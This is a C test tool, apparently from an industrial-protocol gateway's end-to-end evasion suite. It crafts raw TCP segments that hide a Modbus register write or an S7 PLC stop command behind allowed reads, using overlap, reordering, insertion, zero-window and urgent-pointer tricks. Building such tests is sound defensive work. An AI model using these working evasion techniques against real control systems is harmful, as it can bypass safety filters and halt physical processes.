// SPDX-License-Identifier: GPL-2.0
/*
 * tcp-attack: a raw-socket TCP client that crafts the segments a gate must
 * normalize, for the end-to-end evasion tests (tests/e2e/test_evasion.sh).
 *
 *	tcp-attack --iface IF --dst-mac MAC --src IP --dst IP --sport N
 *		   --dport N --proto modbus|s7 --mode MODE [--gap-ms N]
 *		   [--wait-ms N]
 *
 * It sends Ethernet frames on IF through an AF_PACKET socket, does the
 * handshake by hand (SYN, reads the SYN-ACK to learn the server's initial
 * sequence number, ACK), sends the segments of MODE, waits, and ends the
 * connection with a RST. The namespace it runs in must not answer the
 * server itself (drop incoming TCP to --sport there), or its kernel resets
 * the connection. IPv4 or IPv6, as --src and --dst say.
 *
 * Every connection starts with R, an allowed read (Modbus FC 3 of
 * register 0; S7 read variable 0x04), alone and in order at the first data
 * byte, so that a test sees the connection work whatever the mode does
 * after it; S below is the sequence number right after that read. Most
 * modes hide H, a request outside `read-only` (Modbus FC 6 write register
 * 1 := 42; S7 job 0x29 PLC stop), behind D(k): k bytes that open an
 * allowed request (Modbus: an FC 3 MBAP header; S7: TPKT + COTP + an S7
 * read-variable job header) whose length covers k + len(H), so that a gate
 * that judges each segment from its own first byte sees one allowed
 * request. With La = len(R), k = 8 (Modbus) or 18 (S7):
 *
 *   plain        R at S. Nothing hidden: the receiver must get the read.
 *   hidden       R at S; H at S+La, alone (a gate refuses it).
 *   overlap-fwd  R at S; then D(k)+H at S+La-k: the receiver has S..S+La
 *                already, drops the k overlapping bytes and delivers H.
 *   overlap-bwd  D(k)+H at S+La-k first (out of order), then R at S: the
 *                in-order segment wins the overlap, H is delivered.
 *   rewrite-retx R at S; then D(La)+H at S: a "retransmission" of R with
 *                other bytes, whose new tail is H.
 *   reorder      D(k)+H at S+2La-k, then R at S+La, then R at S: the
 *                receiver's out-of-order queue keeps the lower sequence
 *                for the overlap, H is delivered after R R.
 *   ttl1, badsum, oow, badack, noack, badip
 *                insertion: first a read with id 7 (Modbus transaction
 *                id, S7 PDU reference) at S that the receiver discards
 *                (IPv4 TTL 1 / IPv6 hop limit 1, which the gateway does
 *                not forward; a bad TCP checksum; a sequence number 1 MiB
 *                beyond the receiver's window: oow sends it at S+2^20; an
 *                acknowledgment of 1 MiB the server never sent; no ACK
 *                flag; a bad IPv4 header checksum, which the gateway
 *                drops, or an IPv6 destination option that tells the
 *                receiver to discard the packet); then the read with id 3
 *                at S, which must be delivered (a gate that took the
 *                inserted read as passed data would see a rewriting
 *                retransmission); then H at S+La; then D(k)+H at S+La-k.
 *   zwin         (Modbus, to a receiver that stalls: stream-receiver
 *                --stall-port) insertion into a zero window: allowed
 *                requests fill the receiver's window, then the read with
 *                id 7 goes to the closed window and is discarded; after
 *                --wait-ms (default 1600) the window opens, and the read
 *                with id 3, H and D(k)+H follow as in the modes above.
 *   one-byte     R at S; H one byte per segment.
 *   split        R at S; H split before its function byte (Modbus 7 +
 *                rest; S7 17 + rest).
 *   urg          R at S; then a segment with URG set whose urgent byte
 *                the receiver takes out of the stream: with it the
 *                segment is an allowed request (Modbus FC 1 read coils;
 *                S7 read variable), without it H. For S7 the receiver's
 *                TPKT then lacks one byte: R at the next sequence
 *                completes it (and breaks the stream after it).
 *
 * Exit status: 0 when the handshake succeeded and every segment went out,
 * 1 on failure (no SYN-ACK within 3 s, a socket error), 2 on bad usage.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define F_FIN 0x01
#define F_SYN 0x02
#define F_RST 0x04
#define F_PSH 0x08
#define F_ACK 0x10
#define F_URG 0x20

struct opts {
	int ttl; /* 0: 64 */
	bool badsum;
	bool noack;	 /* data without the ACK flag */
	bool badip;	 /* IPv4: bad header checksum; IPv6: see segment() */
	uint32_t ackoff; /* added to the acknowledgment number */
	unsigned int urp;
};

static int sock, ifindex, v6, gap_ms = 30, wait_ms = 1600;
static uint8_t smac[6], dmac[6];
static uint8_t saddr[16], daddr[16];
static unsigned int sport, dport;
static uint32_t iss, irs; /* our and the server's initial sequence */
static uint32_t base;	  /* where the mode's sequence S is, past iss + 1 */
static uint16_t ip_id = 1;

static void put16(uint8_t *p, unsigned int v)
{
	p[0] = v >> 8;
	p[1] = v & 0xff;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v & 0xffff);
}

static uint32_t get32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3];
}

static uint32_t sum16(const uint8_t *p, size_t n, uint32_t s)
{
	size_t i;

	for (i = 0; i + 1 < n; i += 2)
		s += p[i] << 8 | p[i + 1];
	if (n & 1)
		s += p[n - 1] << 8;
	return s;
}

static uint16_t fold(uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return ~s & 0xffff;
}

static void sleep_ms(int ms)
{
	struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};

	nanosleep(&ts, NULL);
}

/* Send one TCP segment with sequence number seq (absolute). */
static int segment(uint32_t seq, unsigned int flags, const uint8_t *data,
		   size_t len, const struct opts *o)
{
	uint8_t f[1600], *ip = f + 14, *tcp;
	bool dstopt = v6 && o && o->badip;
	size_t iplen = v6 ? 40 + 8 * dstopt : 20, thl = flags & F_SYN ? 24 : 20;
	uint32_t s;
	int ttl = o && o->ttl ? o->ttl : 64;

	if (14 + iplen + thl + len > sizeof(f))
		return -1;
	memset(f, 0, 14 + iplen + thl);
	memcpy(f, dmac, 6);
	memcpy(f + 6, smac, 6);
	put16(f + 12, v6 ? ETH_P_IPV6 : ETH_P_IP);
	tcp = ip + iplen;
	if (v6) {
		ip[0] = 0x60;
		put16(ip + 4, iplen - 40 + thl + len);
		ip[6] = dstopt ? 60 : IPPROTO_TCP;
		ip[7] = ttl;
		memcpy(ip + 8, saddr, 16);
		memcpy(ip + 24, daddr, 16);
		if (dstopt) {
			/*
			 * A destination options header with option 0x7E
			 * (experimental, RFC 4727), whose top bits 01 tell
			 * the destination to discard the packet: routers
			 * pass it, the receiver drops it.
			 */
			ip[40] = IPPROTO_TCP;
			ip[41] = 0;
			ip[42] = 0x7e;
			ip[43] = 4;
		}
	} else {
		ip[0] = 0x45;
		put16(ip + 2, 20 + thl + len);
		put16(ip + 4, ip_id++);
		put16(ip + 6, 0x4000);
		ip[8] = ttl;
		ip[9] = IPPROTO_TCP;
		memcpy(ip + 12, saddr, 4);
		memcpy(ip + 16, daddr, 4);
		put16(ip + 10,
		      fold(sum16(ip, 20, 0)) ^ (o && o->badip ? 0x5a5a : 0));
	}
	put16(tcp, sport);
	put16(tcp + 2, dport);
	put32(tcp + 4, seq);
	if (o && o->noack)
		flags &= ~F_ACK;
	put32(tcp + 8, flags & F_ACK ? irs + 1 + (o ? o->ackoff : 0) : 0);
	tcp[12] = (thl / 4) << 4;
	tcp[13] = flags;
	put16(tcp + 14, 65535);
	put16(tcp + 18, o ? o->urp : 0);
	if (flags & F_SYN) {
		tcp[20] = 2; /* MSS 1400 */
		tcp[21] = 4;
		put16(tcp + 22, 1400);
	}
	memcpy(tcp + thl, data, len);
	/* Pseudo header, then the segment. */
	if (v6) {
		s = sum16(saddr, 16, 0);
		s = sum16(daddr, 16, s);
	} else {
		s = sum16(saddr, 4, 0);
		s = sum16(daddr, 4, s);
	}
	s += IPPROTO_TCP + thl + len;
	s = sum16(tcp, thl + len, s);
	put16(tcp + 16, fold(s) ^ (o && o->badsum ? 0x5a5a : 0));
	if (send(sock, f, 14 + iplen + thl + len, 0) < 0) {
		perror("tcp-attack: send");
		return -1;
	}
	return 0;
}

/* Data at relative sequence rel (0 = the first data byte), then a pause. */
static int data(uint32_t rel, const uint8_t *d, size_t len,
		const struct opts *o)
{
	int rc = segment(iss + 1 + base + rel,
			 F_ACK | F_PSH | (o && o->urp ? F_URG : 0), d, len, o);

	sleep_ms(gap_ms);
	return rc;
}

/* Wait up to 3 s for the SYN-ACK of our SYN; learn irs. */
static int await_synack(void)
{
	uint8_t f[2048];
	struct timespec t0, t;

	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (;;) {
		struct pollfd p = {.fd = sock, .events = POLLIN};
		const uint8_t *ip, *tcp;
		ssize_t n;
		size_t iplen;
		long ms;

		clock_gettime(CLOCK_MONOTONIC, &t);
		ms = (t.tv_sec - t0.tv_sec) * 1000 +
		     (t.tv_nsec - t0.tv_nsec) / 1000000;
		if (ms >= 3000)
			return -1;
		if (poll(&p, 1, 3000 - ms) <= 0)
			continue;
		n = recv(sock, f, sizeof(f), 0);
		if (n < 14)
			continue;
		ip = f + 14;
		if (v6) {
			iplen = 40;
			if ((f[12] << 8 | f[13]) != ETH_P_IPV6 ||
			    n < 14 + 40 + 20 || ip[6] != IPPROTO_TCP ||
			    memcmp(ip + 8, daddr, 16) ||
			    memcmp(ip + 24, saddr, 16))
				continue;
		} else {
			iplen = (ip[0] & 15) * 4;
			if ((f[12] << 8 | f[13]) != ETH_P_IP ||
			    n < (ssize_t)(14 + iplen + 20) ||
			    ip[9] != IPPROTO_TCP || memcmp(ip + 12, daddr, 4) ||
			    memcmp(ip + 16, saddr, 4))
				continue;
		}
		tcp = ip + iplen;
		if ((unsigned int)(tcp[0] << 8 | tcp[1]) != dport ||
		    (unsigned int)(tcp[2] << 8 | tcp[3]) != sport)
			continue;
		if ((tcp[13] & (F_SYN | F_ACK)) != (F_SYN | F_ACK) ||
		    get32(tcp + 8) != iss + 1)
			continue;
		irs = get32(tcp + 4);
		return 0;
	}
}

/*
 * What the server's segments queued on the socket say: the highest
 * acknowledgment number (the receiver's next expected sequence) and the
 * window of the last segment that carried it.
 */
static uint32_t seen_ack;
static unsigned int seen_win;
static bool seen_any;

static void drain(void)
{
	uint8_t f[2048];
	ssize_t n;

	if (!seen_any)
		seen_ack = iss + 1;
	while ((n = recv(sock, f, sizeof(f), MSG_DONTWAIT)) > 0) {
		const uint8_t *ip = f + 14, *tcp;
		size_t iplen;

		if (v6) {
			if ((f[12] << 8 | f[13]) != ETH_P_IPV6 ||
			    n < 14 + 40 + 20 || ip[6] != IPPROTO_TCP ||
			    memcmp(ip + 8, daddr, 16))
				continue;
			iplen = 40;
		} else {
			if ((f[12] << 8 | f[13]) != ETH_P_IP || n < 14 + 40 ||
			    ip[9] != IPPROTO_TCP || memcmp(ip + 12, daddr, 4))
				continue;
			iplen = (ip[0] & 15) * 4;
		}
		tcp = ip + iplen;
		if (n < (ssize_t)(14 + iplen + 20) ||
		    (unsigned int)(tcp[2] << 8 | tcp[3]) != sport ||
		    !(tcp[13] & F_ACK))
			continue;
		if ((int32_t)(get32(tcp + 8) - seen_ack) >= 0) {
			seen_ack = get32(tcp + 8);
			seen_win = tcp[14] << 8 | tcp[15];
			seen_any = true;
		}
	}
}

/* The requests of each protocol (see the comment at the top). */
static const uint8_t mb_read[] = {0x00, 0x01, 0x00, 0x00, 0x00, 0x06,
				  0x01, 0x03, 0x00, 0x00, 0x00, 0x01};
static const uint8_t mb_write[] = {0x00, 0x02, 0x00, 0x00, 0x00, 0x06,
				   0x01, 0x06, 0x00, 0x01, 0x00, 0x2a};
/* With the urgent byte 0x07 at offset 5: FC 1 (read coils) of unit 6. */
static const uint8_t mb_urg[] = {0x00, 0x02, 0x00, 0x00, 0x00, 0x07, 0x06,
				 0x01, 0x06, 0x00, 0x01, 0x00, 0x2a};
#define MB_URG_BYTE 5

static const uint8_t s7_read[] = {
	0x03, 0x00, 0x00, 0x1f, 0x02, 0xf0, 0x80, 0x32, 0x01, 0x00, 0x00,
	0x00, 0x01, 0x00, 0x0e, 0x00, 0x00, 0x04, 0x01, 0x12, 0x0a, 0x10,
	0x02, 0x00, 0x01, 0x00, 0x01, 0x84, 0x00, 0x00, 0x00};
static const uint8_t s7_stop[] = {
	0x03, 0x00, 0x00, 0x21, 0x02, 0xf0, 0x80, 0x32, 0x01, 0x00, 0x00,
	0x00, 0x02, 0x00, 0x10, 0x00, 0x00, 0x29, 0x00, 0x00, 0x00, 0x00,
	0x00, 0x09, 'P',  '_',	'P',  'R',  'O',  'G',	'R',  'A',  'M'};
/*
 * With the urgent byte 0x04 at offset 17 (the job function): a read
 * variable job; without it the stop job, one byte short of its TPKT.
 */
static const uint8_t s7_urg[] = {
	0x03, 0x00, 0x00, 0x22, 0x02, 0xf0, 0x80, 0x32, 0x01, 0x00, 0x00, 0x00,
	0x02, 0x00, 0x10, 0x00, 0x00, 0x04, 0x29, 0x00, 0x00, 0x00, 0x00, 0x00,
	0x09, 'P',  '_',  'P',	'R',  'O',  'G',  'R',	'A',  'M'};
#define S7_URG_BYTE 17

struct proto {
	const uint8_t *r, *h, *u;
	size_t rlen, hlen, ulen, k, fnoff;
	unsigned int urg_byte;
};

static const struct proto modbus = {
	.r = mb_read,
	.rlen = sizeof(mb_read),
	.h = mb_write,
	.hlen = sizeof(mb_write),
	.u = mb_urg,
	.ulen = sizeof(mb_urg),
	.k = 8,
	.fnoff = 7,
	.urg_byte = MB_URG_BYTE,
};
static const struct proto s7 = {
	.r = s7_read,
	.rlen = sizeof(s7_read),
	.h = s7_stop,
	.hlen = sizeof(s7_stop),
	.u = s7_urg,
	.ulen = sizeof(s7_urg),
	.k = 18,
	.fnoff = 17,
	.urg_byte = S7_URG_BYTE,
};

/* R with another transaction id (Modbus) or PDU reference (S7). */
static void read_id(const struct proto *p, unsigned int id, uint8_t *out)
{
	memcpy(out, p->r, p->rlen);
	put16(out + (p == &modbus ? 0 : 11), id);
}

/* D(k)+H into out: k bytes opening one allowed request that covers H. */
static size_t disguise(const struct proto *p, size_t k, uint8_t *out)
{
	size_t n = k + p->hlen;

	memset(out, 0, k);
	if (p == &modbus) {
		put16(out, 0x0009);
		put16(out + 4, n - 6);
		out[6] = 1;
		out[7] = 3;
	} else {
		out[0] = 3;
		put16(out + 2, n);
		out[4] = 2;
		out[5] = 0xf0;
		out[6] = 0x80;
		out[7] = 0x32;
		out[8] = 1;
		put16(out + 11, 9);
		put16(out + 13, k - 17);
		out[17] = 0x04;
	}
	memcpy(out + k, p->h, p->hlen);
	return n;
}

/* The receiver's next expected sequence, relative to S. */
static uint32_t rel_nxt(void)
{
	return seen_ack - (iss + 1 + base);
}

/*
 * One allowed Modbus request of exactly n bytes into out, for n in 8
 * (FC 7), 10 (FC 24), 11 (FC 43/14), 12 (FC 3) or 9 + 7k, k = 1..35
 * (FC 20 with k sub-requests). False for other sizes.
 */
static bool fill_adu(size_t n, unsigned int tid, uint8_t *out)
{
	size_t j;

	memset(out, 0, n);
	put16(out, tid);
	put16(out + 4, n - 6);
	out[6] = 1;
	switch (n) {
	case 8:
		out[7] = 7;
		return true;
	case 10:
		out[7] = 24;
		return true;
	case 11:
		out[7] = 43;
		out[8] = 14;
		out[9] = 1;
		return true;
	case 12:
		out[7] = 3;
		out[11] = 1;
		return true;
	}
	if (n < 16 || n > 254 || (n - 9) % 7)
		return false;
	out[7] = 20;
	out[8] = n - 9;
	for (j = 0; j < (n - 9) / 7; j++) {
		uint8_t *q = out + 9 + 7 * j;

		q[0] = 6;
		put16(q + 1, 1);
		put16(q + 3, j);
		put16(q + 5, 1);
	}
	return true;
}

/*
 * Requests that fill exactly w bytes (w <= 1300), as few as possible and
 * at most 8 (the most a gate walks in one segment), into out; their
 * length, or 0 when w cannot be filled so.
 */
static size_t fill_exact(size_t w, uint8_t *out)
{
	static short cnt[1301], last[1301];
	size_t v, n, pos = 0;
	unsigned int tid = 0x100;

	if (w > 1300)
		return 0;
	for (v = 1; v <= w; v++) {
		cnt[v] = 0x7fff;
		for (n = 8; n <= 254 && n <= v; n++) {
			uint8_t tmp[256];

			if (!fill_adu(n, 0, tmp) || cnt[v - n] + 1 >= cnt[v])
				continue;
			cnt[v] = cnt[v - n] + 1;
			last[v] = n;
		}
	}
	cnt[0] = 0;
	if (cnt[w] > 8)
		return 0;
	for (v = w; v; v -= last[v]) {
		fill_adu(last[v], tid++, out + pos);
		pos += last[v];
	}
	return pos;
}

/*
 * zwin: insertion into a zero window. Fill the receiver's window with
 * allowed requests (whole ADUs, at most 8 and 1300 bytes a segment, each
 * sent at the receiver's next sequence and never beyond its window) until
 * it advertises 0; then the read with id 7 at that sequence, which the
 * receiver discards; wait --wait-ms for it to read again and open the
 * window; then the read with id 3 at the same sequence, H after it and
 * D(k)+H over the read's tail.
 */
static int zwin(const struct proto *p)
{
	uint8_t fill[1400], x[64], r3[64], d[512];
	size_t la = p->rlen, k = p->k, n;
	uint32_t at;
	int tries, rc = 0;

	for (tries = 0; tries < 60; tries++) {
		sleep_ms(20);
		drain();
		if (seen_any && seen_win == 0)
			break;
		if (seen_win > 1300 + 254)
			n = fill_exact(5 * 254, fill);
		else if (seen_win > 1300)
			n = fill_exact(seen_win - 254, fill);
		else
			n = fill_exact(seen_win, fill);
		if (n)
			rc |= data(rel_nxt(), fill, n, NULL);
	}
	if (!seen_any || seen_win != 0) {
		fprintf(stderr, "tcp-attack: the window did not close (%u)\n",
			seen_win);
		return 1;
	}
	at = rel_nxt();
	read_id(p, 7, x);
	read_id(p, 3, r3);
	rc |= data(at, x, la, NULL);
	sleep_ms(wait_ms);
	for (tries = 0; tries < 100; tries++) {
		drain();
		if (seen_win)
			break;
		sleep_ms(20);
	}
	if (!seen_win) {
		fprintf(stderr, "tcp-attack: the window did not open\n");
		return 1;
	}
	n = disguise(p, k, d);
	rc |= data(at, r3, la, NULL);
	rc |= data(at + la, p->h, p->hlen, NULL);
	rc |= data(at + la - k, d, n, NULL);
	return rc;
}

/*
 * The segments of a mode, in the order they go out (one statement each:
 * the order in which the operands of | are evaluated is unspecified).
 */
static int run_mode(const char *mode, const struct proto *p)
{
	uint8_t d[512];
	size_t la = p->rlen, k = p->k, n, i;
	int rc = 0;

	if (!strcmp(mode, "plain")) {
		rc |= data(0, p->r, la, NULL);
	} else if (!strcmp(mode, "hidden")) {
		rc |= data(0, p->r, la, NULL);
		rc |= data(la, p->h, p->hlen, NULL);
	} else if (!strcmp(mode, "overlap-fwd")) {
		n = disguise(p, k, d);
		rc |= data(0, p->r, la, NULL);
		rc |= data(la - k, d, n, NULL);
	} else if (!strcmp(mode, "overlap-bwd")) {
		n = disguise(p, k, d);
		rc |= data(la - k, d, n, NULL);
		rc |= data(0, p->r, la, NULL);
	} else if (!strcmp(mode, "rewrite-retx")) {
		n = disguise(p, la, d);
		rc |= data(0, p->r, la, NULL);
		rc |= data(0, d, n, NULL);
	} else if (!strcmp(mode, "reorder")) {
		n = disguise(p, k, d);
		rc |= data(2 * la - k, d, n, NULL);
		rc |= data(la, p->r, la, NULL);
		rc |= data(0, p->r, la, NULL);
	} else if (!strcmp(mode, "ttl1") || !strcmp(mode, "badsum") ||
		   !strcmp(mode, "oow") || !strcmp(mode, "badack") ||
		   !strcmp(mode, "noack") || !strcmp(mode, "badip")) {
		struct opts o = {0};
		uint32_t at = la; /* where the inserted read ends */
		uint8_t x[64], r3[64];

		if (!strcmp(mode, "ttl1"))
			o.ttl = 1;
		else if (!strcmp(mode, "badsum"))
			o.badsum = true;
		else if (!strcmp(mode, "badack"))
			o.ackoff = 1u << 20;
		else if (!strcmp(mode, "noack"))
			o.noack = true;
		else if (!strcmp(mode, "badip"))
			o.badip = true;
		else
			at += 1u << 20;
		n = disguise(p, k, d);
		read_id(p, 7, x);
		read_id(p, 3, r3);
		rc |= data(at - la, x, la, &o);
		rc |= data(0, r3, la, NULL);
		rc |= data(la, p->h, p->hlen, NULL);
		rc |= data(la - k, d, n, NULL);
	} else if (!strcmp(mode, "zwin") && p == &modbus) {
		rc |= zwin(p);
	} else if (!strcmp(mode, "one-byte")) {
		rc |= data(0, p->r, la, NULL);
		for (i = 0; i < p->hlen; i++)
			rc |= data(la + i, p->h + i, 1, NULL);
	} else if (!strcmp(mode, "split")) {
		rc |= data(0, p->r, la, NULL);
		rc |= data(la, p->h, p->fnoff, NULL);
		rc |= data(la + p->fnoff, p->h + p->fnoff, p->hlen - p->fnoff,
			   NULL);
	} else if (!strcmp(mode, "urg")) {
		struct opts o = {.urp = p->urg_byte + 1};

		rc |= data(0, p->r, la, NULL);
		rc |= data(la, p->u, p->ulen, &o);
		if (p == &s7)
			rc |= data(la + p->ulen, p->r, la, NULL);
	} else {
		fprintf(stderr, "tcp-attack: unknown mode %s\n", mode);
		return 2;
	}
	return rc ? 1 : 0;
}

static int parse_mac(const char *s, uint8_t *m)
{
	return sscanf(s, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &m[0], &m[1], &m[2],
		      &m[3], &m[4], &m[5]) == 6
		       ? 0
		       : -1;
}

static void usage(FILE *f)
{
	fprintf(f,
		"usage: tcp-attack --iface IF --dst-mac MAC --src IP "
		"--dst IP --sport N --dport N\n"
		"                  --proto modbus|s7 --mode MODE "
		"[--gap-ms N] [--wait-ms N]\n"
		"  MODE: plain hidden overlap-fwd overlap-bwd rewrite-retx "
		"reorder\n"
		"        ttl1 badsum oow badack noack badip zwin one-byte "
		"split urg\n"
		"  (zwin: Modbus only, to stream-receiver's --stall-port)\n");
}

int main(int argc, char **argv)
{
	const char *iface = NULL, *src = NULL, *dst = NULL, *mode = NULL;
	const struct proto *p = NULL;
	struct sockaddr_ll ll = {.sll_family = AF_PACKET};
	struct ifreq ifr = {0};
	bool have_dmac = false;
	uint32_t end;
	int i, rc;

	for (i = 1; i < argc; i++) {
		const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;

		if (!strcmp(a, "--help")) {
			usage(stdout);
			return 0;
		}
		if (!v) {
			usage(stderr);
			return 2;
		}
		i++;
		if (!strcmp(a, "--iface"))
			iface = v;
		else if (!strcmp(a, "--dst-mac") && !parse_mac(v, dmac))
			have_dmac = true;
		else if (!strcmp(a, "--src"))
			src = v;
		else if (!strcmp(a, "--dst"))
			dst = v;
		else if (!strcmp(a, "--sport"))
			sport = atoi(v);
		else if (!strcmp(a, "--dport"))
			dport = atoi(v);
		else if (!strcmp(a, "--mode"))
			mode = v;
		else if (!strcmp(a, "--gap-ms"))
			gap_ms = atoi(v);
		else if (!strcmp(a, "--wait-ms"))
			wait_ms = atoi(v);
		else if (!strcmp(a, "--proto") && !strcmp(v, "modbus"))
			p = &modbus;
		else if (!strcmp(a, "--proto") && !strcmp(v, "s7"))
			p = &s7;
		else {
			usage(stderr);
			return 2;
		}
	}
	if (!iface || !have_dmac || !src || !dst || !mode || !p || !sport ||
	    sport > 65535 || !dport || dport > 65535 || gap_ms < 0 ||
	    gap_ms > 5000 || wait_ms < 0 || wait_ms > 10000) {
		usage(stderr);
		return 2;
	}
	v6 = strchr(src, ':') != NULL;
	if (inet_pton(v6 ? AF_INET6 : AF_INET, src, saddr) != 1 ||
	    inet_pton(v6 ? AF_INET6 : AF_INET, dst, daddr) != 1) {
		fprintf(stderr, "tcp-attack: bad address %s or %s\n", src, dst);
		return 2;
	}

	sock = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	if (sock < 0) {
		perror("tcp-attack: socket");
		return 1;
	}
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", iface);
	if (ioctl(sock, SIOCGIFINDEX, &ifr) < 0) {
		fprintf(stderr, "tcp-attack: %s: %s\n", iface, strerror(errno));
		return 1;
	}
	ifindex = ifr.ifr_ifindex;
	if (ioctl(sock, SIOCGIFHWADDR, &ifr) < 0) {
		perror("tcp-attack: SIOCGIFHWADDR");
		return 1;
	}
	memcpy(smac, ifr.ifr_hwaddr.sa_data, 6);
	ll.sll_protocol = htons(ETH_P_ALL);
	ll.sll_ifindex = ifindex;
	if (bind(sock, (struct sockaddr *)&ll, sizeof(ll)) < 0) {
		perror("tcp-attack: bind");
		return 1;
	}

	if (getrandom(&iss, sizeof(iss), 0) != sizeof(iss))
		iss = (uint32_t)time(NULL) * 2654435761u;
	if (segment(iss, F_SYN, NULL, 0, NULL))
		return 1;
	if (await_synack()) {
		fprintf(stderr, "tcp-attack: no SYN-ACK from %s port %u\n", dst,
			dport);
		return 1;
	}
	if (segment(iss + 1, F_ACK, NULL, 0, NULL))
		return 1;
	sleep_ms(gap_ms);

	if (data(0, p->r, p->rlen, NULL))
		return 1;
	base = p->rlen;
	rc = run_mode(mode, p);
	if (rc == 2)
		return 2;
	/* Let the receiver read, then reset: no FIN exchange to answer. */
	sleep_ms(300);
	drain();
	end = seen_ack;
	segment(end, F_RST | F_ACK, NULL, 0, NULL);
	return rc ? 1 : 0;
}
